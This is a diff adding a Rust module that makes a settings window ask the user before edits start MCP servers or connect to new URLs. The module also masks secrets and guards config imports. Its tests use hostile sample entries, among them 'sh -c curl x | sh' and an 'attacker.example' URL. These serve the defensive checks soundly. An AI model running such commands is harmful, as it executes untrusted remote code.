@@ -1,0 +1,715 @@
+//! What the window may not do on its own say-so: the host decides which of its edits start
+//! a program or reach a new address (the user must confirm them), hides secret values
+//! from it, and reads only the config files the user picked or the host knows.
+
+use std::collections::BTreeMap;
+use std::io::Read;
+use std::path::{Path, PathBuf};
+
+use serde_json::{Map, Value};
+
+pub use crate::providers::MASKED;
+
+/// The key of the servers object in an `mcpServers` file.
+const SERVERS: &str = "mcpServers";
+/// The entry sections whose values are secrets.
+const SECRET_SECTIONS: [&str; 2] = ["env", "headers"];
+
+/// A server the window's edit would start (or connect to) in a way the user has not
+/// confirmed yet: what exactly would run.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Launch {
+    Stdio {
+        server: String,
+        command: String,
+        args: Vec<String>,
+        /// Names only: the values may be secrets.
+        env_keys: Vec<String>,
+        cwd: Option<String>,
+    },
+    Remote {
+        server: String,
+        url: String,
+    },
+}
+
+/// The parts of an entry that decide what runs or where Conduit connects.
+#[derive(Debug, Clone, PartialEq)]
+struct LaunchSpec<'a> {
+    kind: Option<&'a Value>,
+    command: Option<&'a Value>,
+    args: Option<&'a Value>,
+    env: Option<&'a Value>,
+    cwd: Option<&'a Value>,
+    url: Option<&'a Value>,
+}
+
+fn launch_spec(entry: &Value) -> Option<LaunchSpec<'_>> {
+    let object = entry.as_object()?;
+    if object.get("disabled").and_then(Value::as_bool) == Some(true) {
+        return None;
+    }
+    Some(LaunchSpec {
+        kind: object.get("type"),
+        command: object.get("command"),
+        args: object.get("args"),
+        env: object.get("env"),
+        cwd: object.get("cwd"),
+        url: object.get("url"),
+    })
+}
+
+fn strings(value: Option<&Value>) -> Vec<String> {
+    match value {
+        Some(Value::Array(items)) => items
+            .iter()
+            .map(|v| v.as_str().map_or_else(|| v.to_string(), str::to_owned))
+            .collect(),
+        _ => Vec::new(),
+    }
+}
+
+/// The servers of `new` that would start or connect differently than in `old`: new
+/// enabled entries, entries enabled again, and entries whose command, arguments,
+/// environment, working folder, type or URL changed. Removals and disabling need nothing.
+pub fn launches_to_confirm(old: &Map<String, Value>, new: &Map<String, Value>) -> Vec<Launch> {
+    new.iter()
+        .filter_map(|(name, entry)| {
+            let spec = launch_spec(entry)?;
+            if old.get(name).and_then(launch_spec).as_ref() == Some(&spec) {
+                return None;
+            }
+            let text = |v: Option<&Value>| v.and_then(Value::as_str).map(str::to_owned);
+            Some(match (text(spec.command), text(spec.url)) {
+                (Some(command), _) => Launch::Stdio {
+                    server: name.clone(),
+                    command,
+                    args: strings(spec.args),
+                    env_keys: spec
+                        .env
+                        .and_then(Value::as_object)
+                        .map(|env| env.keys().cloned().collect())
+                        .unwrap_or_default(),
+                    cwd: text(spec.cwd),
+                },
+                (None, Some(url)) => Launch::Remote {
+                    server: name.clone(),
+                    url,
+                },
+                // Neither a command nor a URL: the entry cannot start; the file's own
+                // check says why.
+                (None, None) => return None,
+            })
+        })
+        .collect()
+}
+
+/// The question the user answers before the window's edit is written.
+pub fn confirmation_text(launches: &[Launch]) -> String {
+    let mut text = String::from(
+        "Conduit's settings window asks to run the following. Allow only if you made this change yourself.\n",
+    );
+    for launch in launches {
+        match launch {
+            Launch::Stdio {
+                server,
+                command,
+                args,
+                env_keys,
+                cwd,
+            } => {
+                text.push_str(&format!(
+                    "\nServer {server:?} will run the program:\n  {command:?}\n"
+                ));
+                if args.is_empty() {
+                    text.push_str("with no arguments\n");
+                } else {
+                    let quoted: Vec<String> = args.iter().map(|a| format!("{a:?}")).collect();
+                    text.push_str(&format!("with the arguments:\n  {}\n", quoted.join(" ")));
+                }
+                if !env_keys.is_empty() {
+                    text.push_str(&format!(
+                        "with the environment variables: {}\n",
+                        env_keys.join(", ")
+                    ));
+                }
+                if let Some(cwd) = cwd {
+                    text.push_str(&format!("in the folder {cwd:?}\n"));
+                }
+            }
+            Launch::Remote { server, url } => {
+                text.push_str(&format!("\nServer {server:?} will connect to:\n  {url}\n"));
+            }
+        }
+    }
+    text
+}
+
+/// The servers object of a file's text; empty when the text does not parse or has none.
+pub fn servers_of(text: &str) -> Map<String, Value> {
+    serde_json::from_str::<Value>(text)
+        .ok()
+        .and_then(|mut document| document.get_mut(SERVERS).map(Value::take))
+        .and_then(|servers| match servers {
+            Value::Object(map) => Some(map),
+            _ => None,
+        })
+        .unwrap_or_default()
+}
+
+/// Why a masked value cannot be saved.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum MaskError {
+    #[error(
+        "{place} holds the hidden value {MASKED:?}, but there is no stored value there to keep: type the value again"
+    )]
+    Moved { place: String },
+}
+
+/// A value the window may see as is: a reference to a variable (`${NAME}`) holds no
+/// secret itself.
+fn is_reference(value: &str) -> bool {
+    value
+        .strip_prefix("${")
+        .and_then(|rest| rest.strip_suffix('}'))
+        .is_some_and(|name| {
+            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        })
+}
+
+fn mask_value(value: &str) -> &str {
+    if is_reference(value) { value } else { MASKED }
+}
+
+/// An entry with its `env` and `headers` values masked.
+pub fn mask_entry(entry: &Value) -> Value {
+    let mut entry = entry.clone();
+    if let Some(object) = entry.as_object_mut() {
+        for section in SECRET_SECTIONS {
+            if let Some(Value::Object(values)) = object.get_mut(section) {
+                for value in values.values_mut() {
+                    if let Value::String(s) = value {
+                        *s = mask_value(s).to_owned();
+                    }
+                }
+            }
+        }
+    }
+    entry
+}
+
+/// An entry the window sent back: each masked `env`/`headers` value takes the stored
+/// value of the same server, section and key (`old`); a mask anywhere else is refused.
+pub fn unmask_entry(server: &str, entry: Value, old: Option<&Value>) -> Result<Value, MaskError> {
+    fn walk(
+        value: &mut Value,
+        path: &mut Vec<String>,
+        old: Option<&Value>,
+        server: &str,
+    ) -> Result<(), MaskError> {
+        match value {
+            Value::String(s) if s == MASKED => {
+                let kept = match path.as_slice() {
+                    [section, key] if SECRET_SECTIONS.contains(&section.as_str()) => old
+                        .and_then(|o| o.get(section))
+                        .and_then(|s| s.get(key))
+                        .and_then(Value::as_str),
+                    _ => None,
+                };
+                match kept {
+                    Some(kept) => {
+                        *s = kept.to_owned();
+                        Ok(())
+                    }
+                    None => Err(MaskError::Moved {
+                        place: format!("{server}.{}", path.join(".")),
+                    }),
+                }
+            }
+            Value::Object(map) => {
+                if map.keys().any(|k| k == MASKED) {
+                    return Err(MaskError::Moved {
+                        place: format!("a name in {server}.{}", path.join(".")),
+                    });
+                }
+                for (key, child) in map.iter_mut() {
+                    path.push(key.clone());
+                    walk(child, path, old, server)?;
+                    path.pop();
+                }
+                Ok(())
+            }
+            Value::Array(items) => {
+                for (index, child) in items.iter_mut().enumerate() {
+                    path.push(index.to_string());
+                    walk(child, path, old, server)?;
+                    path.pop();
+                }
+                Ok(())
+            }
+            _ => Ok(()),
+        }
+    }
+    let mut entry = entry;
+    walk(&mut entry, &mut Vec::new(), old, server)?;
+    Ok(entry)
+}
+
+/// A string in JSON text: where its literal is, its value, and the object keys leading
+/// to it (array items count as `[]`).
+#[derive(Debug, Clone)]
+struct StringToken {
+    range: std::ops::Range<usize>,
+    value: String,
+    path: Vec<String>,
+    is_key: bool,
+}
+
+/// Every string of `text` with its path. Tolerant: text that does not parse still yields
+/// its strings, so a broken file is masked too.
+fn string_tokens(text: &str) -> Vec<StringToken> {
+    enum Frame {
+        Object { key: Option<String>, want_key: bool },
+        Array,
+    }
+    let bytes = text.as_bytes();
+    let mut stack: Vec<Frame> = Vec::new();
+    let mut tokens = Vec::new();
+    let mut i = 0;
+    while i < bytes.len() {
+        match bytes[i] {
+            b'{' => stack.push(Frame::Object {
+                key: None,
+                want_key: true,
+            }),
+            b'[' => stack.push(Frame::Array),
+            b'}' | b']' => {
+                stack.pop();
+            }
+            b',' => {
+                if let Some(Frame::Object { key, want_key }) = stack.last_mut() {
+                    *key = None;
+                    *want_key = true;
+                }
+            }
+            b':' => {
+                if let Some(Frame::Object { want_key, .. }) = stack.last_mut() {
+                    *want_key = false;
+                }
+            }
+            b'"' => {
+                let start = i;
+                i += 1;
+                while i < bytes.len() && bytes[i] != b'"' {
+                    i += if bytes[i] == b'\\' { 2 } else { 1 };
+                }
+                let end = (i + 1).min(bytes.len());
+                let literal = text.get(start..end).unwrap_or_default();
+                let value = serde_json::from_str::<String>(literal)
+                    .unwrap_or_else(|_| literal.trim_matches('"').to_owned());
+                let is_key = matches!(stack.last(), Some(Frame::Object { want_key: true, .. }));
+                let path = stack
+                    .iter()
+                    .filter_map(|frame| match frame {
+                        Frame::Object { key, .. } => key.clone(),
+                        Frame::Array => Some("[]".to_owned()),
+                    })
+                    .collect();
+                if is_key && let Some(Frame::Object { key, .. }) = stack.last_mut() {
+                    *key = Some(value.clone());
+                }
+                tokens.push(StringToken {
+                    range: start..end,
+                    value,
+                    path,
+                    is_key,
+                });
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    tokens
+}
+
+/// `[mcpServers, server, env|headers, key]`: a secret value's place.
+fn secret_place(token: &StringToken) -> Option<(&str, &str, &str)> {
+    match token.path.as_slice() {
+        [root, server, section, key]
+            if !token.is_key && root == SERVERS && SECRET_SECTIONS.contains(&section.as_str()) =>
+        {
+            Some((server, section, key))
+        }
+        _ => None,
+    }
+}
+
+fn replace_ranges(text: &str, mut replacements: Vec<(std::ops::Range<usize>, String)>) -> String {
+    replacements.sort_by_key(|(range, _)| std::cmp::Reverse(range.start));
+    let mut out = text.to_owned();
+    for (range, with) in replacements {
+        out.replace_range(range, &with);
+    }
+    out
+}
+
+/// The file's text with every `env` and `headers` value of its servers masked, the rest
+/// as written.
+pub fn mask_text(text: &str) -> String {
+    let replacements = string_tokens(text)
+        .into_iter()
+        .filter(|token| secret_place(token).is_some() && !is_reference(&token.value))
+        .map(|token| (token.range, format!("\"{MASKED}\"")))
+        .collect();
+    replace_ranges(text, replacements)
+}
+
+/// Text the raw editor sent back: each mask takes the stored value at the same server,
+/// section and key of `old`; a mask anywhere else is refused.
+pub fn unmask_text(new: &str, old: &str) -> Result<String, MaskError> {
+    let stored: BTreeMap<(String, String, String), std::ops::Range<usize>> = string_tokens(old)
+        .into_iter()
+        .filter_map(|token| {
+            let (server, section, key) = secret_place(&token)?;
+            let place = (server.to_owned(), section.to_owned(), key.to_owned());
+            Some((place, token.range))
+        })
+        .collect();
+    let mut replacements = Vec::new();
+    for token in string_tokens(new) {
+        if token.value != MASKED {
+            continue;
+        }
+        let kept = secret_place(&token).and_then(|(server, section, key)| {
+            stored.get(&(server.to_owned(), section.to_owned(), key.to_owned()))
+        });
+        match kept.and_then(|range| old.get(range.clone())) {
+            Some(literal) => replacements.push((token.range, literal.to_owned())),
+            None => {
+                return Err(MaskError::Moved {
+                    place: token.path.join("."),
+                });
+            }
+        }
+    }
+    Ok(replace_ranges(new, replacements))
+}
+
+/// Largest config file Conduit imports from.
+pub const IMPORT_MAX_BYTES: u64 = 1024 * 1024;
+
+/// Another app's MCP config file at a place the host knows; the window names it by id.
+#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
+#[serde(rename_all = "camelCase")]
+pub struct KnownImportFile {
+    pub id: &'static str,
+    pub app: &'static str,
+    pub path: PathBuf,
+}
+
+/// Where other apps keep their servers, under `home` and the platform's config folder.
+pub fn known_import_files(home: &Path, config_dir: &Path) -> Vec<KnownImportFile> {
+    vec![
+        KnownImportFile {
+            id: "claude-desktop",
+            app: "Claude Desktop",
+            path: config_dir.join("Claude").join("claude_desktop_config.json"),
+        },
+        KnownImportFile {
+            id: "claude-code",
+            app: "Claude Code",
+            path: home.join(".claude.json"),
+        },
+        KnownImportFile {
+            id: "cursor",
+            app: "Cursor",
+            path: home.join(".cursor").join("mcp.json"),
+        },
+        KnownImportFile {
+            id: "vscode",
+            app: "VS Code",
+            path: config_dir.join("Code").join("User").join("mcp.json"),
+        },
+        KnownImportFile {
+            id: "windsurf",
+            app: "Windsurf",
+            path: home
+                .join(".codeium")
+                .join("windsurf")
+                .join("mcp_config.json"),
+        },
+    ]
+}
+
+#[derive(Debug, thiserror::Error)]
+pub enum ImportFileError {
+    #[error("there is no known config file called {0:?}")]
+    UnknownSource(String),
+    #[error("{path}: there is no such file")]
+    Missing { path: String },
+    #[error("{path} is not a regular file (a folder, device or pipe); pick a config file")]
+    NotAFile { path: String },
+    #[error("{path} is larger than 1 MiB; Conduit imports only config files")]
+    TooLarge { path: String },
+    #[error("{path} is not UTF-8 text")]
+    NotText { path: String },
+    #[error("{path} could not be read: {source}")]
+    Io {
+        path: String,
+        #[source]
+        source: std::io::Error,
+    },
+}
+
+/// The text of a config file to import from: a regular file (a symlink counts as its
+/// target) of at most 1 MiB. Folders, devices and pipes are refused before they are
+/// opened, so reading never blocks.
+pub fn read_import_file(path: &Path) -> Result<String, ImportFileError> {
+    let shown = path.display().to_string();
+    let io = |source: std::io::Error| ImportFileError::Io {
+        path: shown.clone(),
+        source,
+    };
+    let check = |metadata: &std::fs::Metadata| {
+        if !metadata.is_file() {
+            Err(ImportFileError::NotAFile {
+                path: shown.clone(),
+            })
+        } else if metadata.len() > IMPORT_MAX_BYTES {
+            Err(ImportFileError::TooLarge {
+                path: shown.clone(),
+            })
+        } else {
+            Ok(())
+        }
+    };
+    let metadata = match std::fs::metadata(path) {
+        Ok(metadata) => metadata,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
+            return Err(ImportFileError::Missing {
+                path: shown.clone(),
+            });
+        }
+        Err(e) => return Err(io(e)),
+    };
+    check(&metadata)?;
+    let file = std::fs::File::open(path).map_err(io)?;
+    // The file may have been swapped since: check what was opened.
+    check(&file.metadata().map_err(io)?)?;
+    let mut bytes = Vec::new();
+    file.take(IMPORT_MAX_BYTES + 1)
+        .read_to_end(&mut bytes)
+        .map_err(io)?;
+    if bytes.len() as u64 > IMPORT_MAX_BYTES {
+        return Err(ImportFileError::TooLarge { path: shown });
+    }
+    String::from_utf8(bytes).map_err(|_| ImportFileError::NotText { path: shown })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn servers(value: Value) -> Map<String, Value> {
+        value.as_object().cloned().unwrap()
+    }
+
+    #[test]
+    fn new_changed_and_re_enabled_launches_need_confirming_and_nothing_else() {
+        let old = servers(json!({
+            "time": {"command": "uvx", "args": ["mcp-server-time"], "env": {"TZ": "UTC"}},
+            "web": {"url": "https://mcp.example.com/mcp", "headers": {"Authorization": "Bearer a"}},
+            "off": {"command": "node", "args": ["x.js"], "disabled": true},
+            "gone": {"command": "rm"},
+        }));
+        // The same file, reordered and with headers and timeouts changed: nothing to ask.
+        let same = servers(json!({
+            "web": {"url": "https://mcp.example.com/mcp", "headers": {"Authorization": "Bearer b"}, "timeout": 5},
+            "time": {"command": "uvx", "args": ["mcp-server-time"], "env": {"TZ": "UTC"}},
+            "off": {"command": "node", "args": ["x.js"], "disabled": true},
+        }));
+        assert_eq!(launches_to_confirm(&old, &same), vec![]);
+
+        let changed = servers(json!({
+            "time": {"command": "uvx", "args": ["mcp-server-time", "--evil"], "env": {"TZ": "UTC"}},
+            "web": {"url": "https://attacker.example/mcp"},
+            "off": {"command": "node", "args": ["x.js"]},
+            "new": {"command": "sh", "args": ["-c", "curl x | sh"], "env": {"TOKEN": "s3cret"}, "cwd": "/tmp"},
+            "envchange": {"command": "rm"},
+        }));
+        let mut old_with_envchange = old.clone();
+        old_with_envchange.insert(
+            "envchange".into(),
+            json!({"command": "rm", "env": {"LD_PRELOAD": "x"}}),
+        );
+        let launches = launches_to_confirm(&old_with_envchange, &changed);
+        assert_eq!(
+            launches,
+            vec![
+                Launch::Stdio {
+                    server: "time".into(),
+                    command: "uvx".into(),
+                    args: vec!["mcp-server-time".into(), "--evil".into()],
+                    env_keys: vec!["TZ".into()],
+                    cwd: None
+                },
+                Launch::Remote {
+                    server: "web".into(),
+                    url: "https://attacker.example/mcp".into()
+                },
+                Launch::Stdio {
+                    server: "off".into(),
+                    command: "node".into(),
+                    args: vec!["x.js".into()],
+                    env_keys: vec![],
+                    cwd: None
+                },
+                Launch::Stdio {
+                    server: "new".into(),
+                    command: "sh".into(),
+                    args: vec!["-c".into(), "curl x | sh".into()],
+                    env_keys: vec!["TOKEN".into()],
+                    cwd: Some("/tmp".into())
+                },
+                Launch::Stdio {
+                    server: "envchange".into(),
+                    command: "rm".into(),
+                    args: vec![],
+                    env_keys: vec![],
+                    cwd: None
+                },
+            ]
+        );
+        let text = confirmation_text(&launches);
+        assert!(
+            text.contains("\"sh\"") && text.contains("\"curl x | sh\""),
+            "{text}"
+        );
+        assert!(text.contains("https://attacker.example/mcp"), "{text}");
+        assert!(text.contains("TOKEN") && !text.contains("s3cret"), "{text}");
+
+        // Disabling or removing starts nothing.
+        let disabled = servers(json!({"time": {"command": "uvx", "disabled": true}}));
+        assert_eq!(launches_to_confirm(&old, &disabled), vec![]);
+        assert_eq!(launches_to_confirm(&old, &Map::new()), vec![]);
+    }
+
+    #[test]
+    fn secrets_are_masked_in_entries_and_a_mask_sent_back_keeps_the_stored_value() {
+        let stored = json!({"command": "x", "args": ["a"],
+            "env": {"TOKEN": "s3cret", "HOME_REF": "${HOME}"},
+            "headers": {"Authorization": "Bearer s3cret"}});
+        let masked = mask_entry(&stored);
+        assert_eq!(masked["env"]["TOKEN"], MASKED);
+        assert_eq!(
+            masked["env"]["HOME_REF"], "${HOME}",
+            "a reference is no secret"
+        );
+        assert_eq!(masked["headers"]["Authorization"], MASKED);
+        assert!(!masked.to_string().contains("s3cret"));
+
+        let back = unmask_entry("srv", masked.clone(), Some(&stored)).unwrap();
+        assert_eq!(back, stored);
+
+        // A mask moved to another key, section, server or into the arguments is refused.
+        let mut moved = masked.clone();
+        moved["env"]["OTHER"] = json!(MASKED);
+        assert!(unmask_entry("srv", moved, Some(&stored)).is_err());
+        let mut into_args = masked.clone();
+        into_args["args"] = json!([MASKED]);
+        assert!(unmask_entry("srv", into_args, Some(&stored)).is_err());
+        assert!(
+            unmask_entry("other", masked, None).is_err(),
+            "a new server has no stored values"
+        );
+    }
+
+    #[test]
+    fn the_raw_text_is_masked_in_place_and_masks_sent_back_take_the_stored_values() {
+        let old = "{\n  \"mcpServers\": {\n    \"a\": {\"command\": \"x\", \"env\": {\"K\": \"s3\\\"cret\", \"R\": \"${HOME}\"}},\n    \"b\": {\"url\": \"https://h/mcp\", \"headers\": {\"Authorization\": \"Bearer t0k\"}}\n  }\n}\n";
+        let masked = mask_text(old);
+        assert!(
+            !masked.contains("s3") && !masked.contains("t0k"),
+            "{masked}"
+        );
+        assert!(
+            masked.contains("${HOME}") && masked.contains("\"command\": \"x\""),
+            "{masked}"
+        );
+        assert_eq!(unmask_text(&masked, old).unwrap(), old);
+
+        // An edit elsewhere keeps the values; moving a mask to another server is refused.
+        let edited = masked.replace("\"x\"", "\"y\"");
+        assert_eq!(
+            unmask_text(&edited, old).unwrap(),
+            old.replace("\"x\"", "\"y\"")
+        );
+        let moved = masked.replace("\"b\"", "\"c\"");
+        assert!(unmask_text(&moved, old).is_err());
+        let into_args = masked.replace(
+            "\"command\": \"x\"",
+            &format!("\"command\": \"x\", \"args\": [\"{MASKED}\"]"),
+        );
+        assert!(unmask_text(&into_args, old).is_err());
+
+        // A file that does not parse is masked too.
+        let broken = "{\"mcpServers\": {\"a\": {\"env\": {\"K\": \"s3cret\"}, }";
+        assert!(!mask_text(broken).contains("s3cret"));
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn import_reads_only_regular_files_up_to_a_mebibyte() {
+        let dir = tempfile::tempdir().unwrap();
+        let good = dir.path().join("good.json");
+        std::fs::write(&good, "{\"mcpServers\": {}}").unwrap();
+        assert!(read_import_file(&good).is_ok());
+
+        let link = dir.path().join("link.json");
+        std::os::unix::fs::symlink(&good, &link).unwrap();
+        assert!(
+            read_import_file(&link).is_ok(),
+            "a symlink counts as its target"
+        );
+
+        let big = dir.path().join("big.json");
+        std::fs::write(&big, vec![b' '; (IMPORT_MAX_BYTES + 1) as usize]).unwrap();
+        assert!(matches!(
+            read_import_file(&big),
+            Err(ImportFileError::TooLarge { .. })
+        ));
+
+        assert!(matches!(
+            read_import_file(dir.path()),
+            Err(ImportFileError::NotAFile { .. })
+        ));
+        assert!(matches!(
+            read_import_file(Path::new("/dev/zero")),
+            Err(ImportFileError::NotAFile { .. })
+        ));
+        let fifo = dir.path().join("fifo");
+        let made = std::process::Command::new("mkfifo")
+            .arg(&fifo)
+            .status()
+            .unwrap();
+        assert!(made.success());
+        // Refused before it is opened: opening a pipe with no writer would block.
+        assert!(matches!(
+            read_import_file(&fifo),
+            Err(ImportFileError::NotAFile { .. })
+        ));
+        assert!(matches!(
+            read_import_file(&dir.path().join("missing.json")),
+            Err(ImportFileError::Missing { .. })
+        ));
+    }
+
+    #[test]
+    fn the_known_files_are_under_home_and_the_config_folder_only() {
+        let known = known_import_files(Path::new("/home/u"), Path::new("/home/u/.config"));
+        assert!(known.iter().any(|k| k.id == "claude-desktop"
+            && k.path == Path::new("/home/u/.config/Claude/claude_desktop_config.json")));
+        assert!(known.iter().all(|k| k.path.starts_with("/home/u")));
+    }
+}
